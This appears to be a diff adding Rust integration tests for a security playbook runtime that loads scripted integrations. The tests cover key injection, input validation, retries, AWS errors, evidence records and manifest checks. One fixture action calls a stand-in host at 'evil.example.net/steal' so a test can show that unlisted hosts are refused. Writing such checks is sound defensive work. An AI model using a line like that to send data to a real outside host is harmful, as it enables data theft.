@@ -1,0 +1,327 @@
+//! The runtime against a real local HTTP server and integration folders written by the tests.
+
+use std::path::Path;
+use std::sync::{Arc, Mutex};
+
+use axum::Router;
+use axum::extract::{Query, State};
+use axum::http::{HeaderMap, StatusCode};
+use axum::routing::{get, post};
+use serde_json::json;
+
+use super::*;
+use crate::config::IntegrationsConfig;
+
+type Seen = Arc<Mutex<Vec<String>>>;
+
+/// A server standing in for `api.example.com` (and an EC2 endpoint), recording what it was asked.
+async fn server() -> (String, Seen) {
+    let seen: Seen = Arc::default();
+    let app = Router::new()
+        .route(
+            "/v1/ip",
+            get(
+                |State(seen): State<Seen>,
+                 headers: HeaderMap,
+                 Query(q): Query<BTreeMap<String, String>>| async move {
+                    let key = headers.get("x-api-key").and_then(|v| v.to_str().ok());
+                    seen.lock().unwrap().push(format!("ip {} key={key:?}", q["address"]));
+                    axum::Json(json!({ "address": q["address"], "score": 87 }))
+                },
+            ),
+        )
+        .route(
+            "/busy",
+            get(|| async { (StatusCode::SERVICE_UNAVAILABLE, "busy") }),
+        )
+        .route(
+            "/",
+            post(|State(seen): State<Seen>, body: String| async move {
+                seen.lock().unwrap().push(body);
+                (
+                    StatusCode::BAD_REQUEST,
+                    "<?xml version=\"1.0\"?><Response><Errors><Error><Code>InvalidInstanceID.NotFound</Code><Message>The instance ID 'i-0' does not exist</Message></Error></Errors><RequestID>x</RequestID></Response>",
+                )
+            }),
+        )
+        .with_state(seen.clone());
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let base = format!("http://{}", listener.local_addr().unwrap());
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+    (base, seen)
+}
+
+const MANIFEST: &str = r#"name: probe
+description: A test integration.
+auth: { kind: api_key, credentials: probe, header: X-Api-Key }
+hosts: [api.example.com, "ec2.*.amazonaws.com"]
+settings:
+  threshold: { description: score above which an address is bad, default: 50 }
+actions:
+  check:
+    description: Look an address up.
+    kind: enrichment
+    side_effect: false
+    idempotent: true
+    inputs:
+      address: { type: string, required: true, pattern: "[0-9.]+" }
+  elsewhere:
+    description: Calls a host the manifest does not list.
+    kind: query
+    side_effect: false
+    idempotent: true
+  busy:
+    description: Calls a server that is overloaded.
+    kind: query
+    side_effect: false
+    idempotent: true
+  refuse:
+    description: Throws.
+    kind: query
+    side_effect: false
+    idempotent: true
+  later:
+    description: Asks to be retried.
+    kind: query
+    side_effect: false
+    idempotent: true
+  describe:
+    description: An EC2 call that fails.
+    kind: query
+    side_effect: false
+    idempotent: true
+  collect:
+    description: Returns evidence.
+    kind: evidence
+    side_effect: true
+    idempotent: true
+"#;
+
+const SCRIPT: &str = r#"
+fn check(input) {
+    let r = http(#{ url: "https://api.example.com/v1/ip", query: #{ address: input.address } });
+    #{ score: r.json.score, bad: r.json.score > setting("threshold"), status: r.status }
+}
+fn elsewhere(input) { http(#{ url: "https://evil.example.net/steal" }) }
+fn busy(input) { http(#{ url: "https://api.example.com/busy" }) }
+fn refuse(input) { throw "the address is reserved" }
+fn later(input) { retry_later("not yet") }
+fn describe(input) {
+    aws_query(#{ url: "https://ec2.eu-west-1.amazonaws.com/", action: "DescribeInstances",
+                 version: "2016-11-15", params: #{ "InstanceId.1": "i-0" } })
+}
+fn collect(input) {
+    #{ evidence: [#{ kind: "note", location: "memo://1", sha256: sha256_hex("abc") }] }
+}
+"#;
+
+fn write(dir: &Path, name: &str, manifest: &str, script: &str) -> std::path::PathBuf {
+    let folder = dir.join(name);
+    std::fs::create_dir_all(&folder).unwrap();
+    std::fs::write(folder.join("manifest.yaml"), manifest).unwrap();
+    std::fs::write(folder.join("actions.rhai"), script).unwrap();
+    folder
+}
+
+fn config(dir: &Path, base: &str) -> IntegrationsConfig {
+    let text = format!(
+        "integrations:\n  paths: [{}]\n  credentials:\n    probe:\n      api_key: probe-key-123\n      endpoints:\n        api.example.com: {base}\n        \"*.amazonaws.com\": {base}\n",
+        dir.display()
+    );
+    crate::config::parse(&text, Path::new("test.yaml"))
+        .unwrap()
+        .integrations
+}
+
+fn call() -> ActionCall {
+    ActionCall {
+        run_id: "run-1".into(),
+        step_id: "step-1".into(),
+        playbook: "p".into(),
+        incident_id: None,
+        idempotency_key: "run-1:step-1".into(),
+    }
+}
+
+async fn loaded() -> (Integrations, Seen, tempfile::TempDir) {
+    let (base, seen) = server().await;
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "probe", MANIFEST, SCRIPT);
+    let integrations = Integrations::load(&config(dir.path(), &base), reqwest::Client::new(), None)
+        .unwrap_or_else(|d| panic!("{d:?}"));
+    (integrations, seen, dir)
+}
+
+#[tokio::test]
+async fn an_action_reaches_its_host_through_the_endpoint_with_the_key_applied() {
+    let (integrations, seen, _dir) = loaded().await;
+    let out = integrations
+        .call("probe.check", json!({ "address": "203.0.113.7" }), &call())
+        .await
+        .unwrap();
+    assert_eq!(out, json!({ "score": 87, "bad": true, "status": 200 }));
+    assert_eq!(
+        *seen.lock().unwrap(),
+        ["ip 203.0.113.7 key=Some(\"probe-key-123\")"]
+    );
+}
+
+#[tokio::test]
+async fn inputs_are_checked_before_the_script_runs() {
+    let (integrations, seen, _dir) = loaded().await;
+    let error = integrations
+        .call("probe.check", json!({ "address": "not an ip" }), &call())
+        .await
+        .unwrap_err();
+    assert_eq!(
+        error.message,
+        "input `address` of `probe.check` must match the pattern `[0-9.]+`"
+    );
+    let error = integrations
+        .call("probe.check", json!({}), &call())
+        .await
+        .unwrap_err();
+    assert_eq!(error.message, "`probe.check` needs input `address`");
+    assert!(seen.lock().unwrap().is_empty());
+}
+
+#[tokio::test]
+async fn a_host_outside_the_manifest_is_refused_and_never_contacted() {
+    let (integrations, seen, _dir) = loaded().await;
+    let error = integrations
+        .call("probe.elsewhere", json!({}), &call())
+        .await
+        .unwrap_err();
+    assert_eq!(
+        error.message,
+        "host `evil.example.net` is not in the hosts of integration `probe`"
+    );
+    assert!(!error.retryable);
+    assert!(seen.lock().unwrap().is_empty());
+}
+
+#[tokio::test]
+async fn failures_say_whether_to_try_again() {
+    let (integrations, _, _dir) = loaded().await;
+    let busy = integrations
+        .call("probe.busy", json!({}), &call())
+        .await
+        .unwrap_err();
+    assert!(busy.retryable, "{busy:?}");
+    assert!(busy.message.contains("503"), "{busy:?}");
+    let refused = integrations
+        .call("probe.refuse", json!({}), &call())
+        .await
+        .unwrap_err();
+    assert_eq!(refused, ActionError::permanent("the address is reserved"));
+    let later = integrations
+        .call("probe.later", json!({}), &call())
+        .await
+        .unwrap_err();
+    assert_eq!(later, ActionError::retryable("not yet"));
+}
+
+#[tokio::test]
+async fn an_aws_error_reads_as_its_code_and_message() {
+    let (integrations, seen, _dir) = loaded().await;
+    let error = integrations
+        .call("probe.describe", json!({}), &call())
+        .await
+        .unwrap_err();
+    assert_eq!(
+        error,
+        ActionError::permanent(
+            "AWS InvalidInstanceID.NotFound: The instance ID 'i-0' does not exist"
+        )
+    );
+    assert_eq!(
+        *seen.lock().unwrap(),
+        ["Action=DescribeInstances&InstanceId.1=i-0&Version=2016-11-15"]
+    );
+}
+
+#[tokio::test]
+async fn evidence_records_are_completed_with_where_they_came_from() {
+    let (integrations, _, _dir) = loaded().await;
+    let out = integrations
+        .call("probe.collect", json!({}), &call())
+        .await
+        .unwrap();
+    let record = &out["evidence"][0];
+    assert_eq!(record["kind"], "note");
+    assert_eq!(record["location"], "memo://1");
+    assert_eq!(
+        record["sha256"],
+        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
+    );
+    assert_eq!(record["run_id"], "run-1");
+    assert_eq!(record["step_id"], "step-1");
+    assert_eq!(record["action"], "probe.collect");
+    assert!(record["collected_at"].as_str().unwrap().ends_with('Z'));
+}
+
+#[tokio::test]
+async fn an_integration_without_its_credentials_loads_but_says_what_to_set() {
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "probe", MANIFEST, SCRIPT);
+    let config = IntegrationsConfig {
+        paths: vec![dir.path().to_owned()],
+        ..IntegrationsConfig::default()
+    };
+    let integrations = Integrations::load(&config, reqwest::Client::new(), None).unwrap();
+    let error = integrations
+        .call("probe.check", json!({ "address": "1.2.3.4" }), &call())
+        .await
+        .unwrap_err();
+    assert_eq!(
+        error.message,
+        "integration `probe` has no credentials: set integrations.credentials.probe in the config"
+    );
+}
+
+#[test]
+fn manifest_mistakes_are_reported_where_they_are() {
+    let dir = tempfile::tempdir().unwrap();
+    let manifest = "name: other\ndescription: x\nactions:\n  isolate:\n    description: x\n    kind: containment\n    side_effect: true\n    idempotent: true\n  lookup:\n    description: x\n    kind: query\n    side_effect: false\n    idempotent: true\n    undo: nothing\n";
+    write(dir.path(), "broken", manifest, "fn isolate(input) { 1 }");
+    let config = IntegrationsConfig {
+        paths: vec![dir.path().to_owned()],
+        ..IntegrationsConfig::default()
+    };
+    let problems = Integrations::load(&config, reqwest::Client::new(), None).unwrap_err();
+    let found: Vec<String> = problems
+        .iter()
+        .map(|d| format!("{}:{}: {}", d.line, d.column, d.message))
+        .collect();
+    assert_eq!(
+        found,
+        [
+            "1:7: the integration is named `other` but its folder is `broken`",
+            "6:5: containment action `isolate` must name its `undo` action",
+            "14:11: the undo of `lookup` is `nothing`, which is not an action of this integration",
+        ]
+    );
+
+    let manifest = "name: broken\ndescription: x\nactions:\n  lookup:\n    description: x\n    kind: query\n    side_effect: false\n    idempotent: true\n";
+    write(
+        dir.path(),
+        "broken",
+        manifest,
+        "fn lookup() { 1 }\nfn other(input) { let x = ; }",
+    );
+    let problems = Integrations::load(&config, reqwest::Client::new(), None).unwrap_err();
+    assert_eq!(problems.len(), 1, "{problems:?}");
+    assert_eq!(
+        (problems[0].line, problems[0].column),
+        (2, 27),
+        "{problems:?}"
+    );
+    assert!(problems[0].file.ends_with("broken/actions.rhai"));
+
+    write(dir.path(), "broken", manifest, "fn lookup() { 1 }");
+    let problems = Integrations::load(&config, reqwest::Client::new(), None).unwrap_err();
+    assert_eq!(
+        problems[0].message,
+        "action `lookup` has no function `fn lookup(input)` in the script"
+    );
+}
